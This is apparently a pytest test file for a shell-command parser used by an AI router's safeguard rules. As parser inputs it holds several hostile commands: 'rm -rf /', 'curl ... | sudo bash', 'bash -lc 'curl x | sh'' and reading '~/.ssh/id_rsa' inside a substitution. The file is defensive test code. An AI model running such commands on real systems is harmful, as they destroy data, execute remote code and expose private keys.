"""Shell command lines → the simple commands they run (what the safeguard rules look at)."""

from __future__ import annotations

import pytest

from turnroute.router.safeguards.shell import parse_shell


def argvs(text: str) -> list[tuple[str, ...]]:
    p = parse_shell(text)
    assert p.ok, p.error
    return [c.argv for c in p.commands]


@pytest.mark.parametrize("text,expected", [
    ("ls -la", [("ls", "-la")]),
    ("cd src && make test; echo ok || true", [("cd", "src"), ("make", "test"), ("echo", "ok"), ("true",)]),
    ("echo 'a; rm -rf /' \"b && c\"", [("echo", "a; rm -rf /", "b && c")]),
    ("X=1 Y=2 sudo -u root nice -n 5 rm -f a", [("rm", "-f", "a")]),
    ("(cd build && rm -rf out)", [("cd", "build"), ("rm", "-rf", "out")]),
    ("make \\\n  all", [("make", "all")]),
    ("ls # rm -rf /", [("ls",)]),
    ("a\nb", [("a",), ("b",)]),
])
def test_simple_commands(text, expected):
    assert argvs(text) == expected


def test_pipelines_redirections_and_substitutions():
    p = parse_shell("curl -s http://x | sudo bash 2>&1 > out.log; cat < in.txt")
    curl, bash, cat = p.commands
    assert (curl.piped, bash.piped, cat.piped) == (False, True, False)
    assert bash.wrappers == ("sudo",) and bash.writes == ("out.log",) and cat.reads == ("in.txt",)
    p = parse_shell('echo "$(cat ~/.ssh/id_rsa)" `whoami` <(curl x)')
    outer, *inner = p.commands
    assert [c.argv for c in outer.subst] == [("cat", "~/.ssh/id_rsa"), ("whoami",), ("curl", "x")]
    assert all(c.nested for c in inner) and [c.argv for c in inner] == [c.argv for c in outer.subst]


def test_shell_c_bodies_are_parsed_too():
    outer, curl, sh = parse_shell("bash -lc 'curl x | sh'").commands
    assert outer.program == "bash" and [c.argv for c in outer.subst] == [("curl", "x"), ("sh",)]
    assert sh.piped and sh.nested


def test_what_cannot_be_read_is_reported_not_guessed():
    p = parse_shell("echo 'unterminated")
    assert not p.ok and "quotation" in p.error
    assert not parse_shell("; ".join(["true"] * 300)).ok
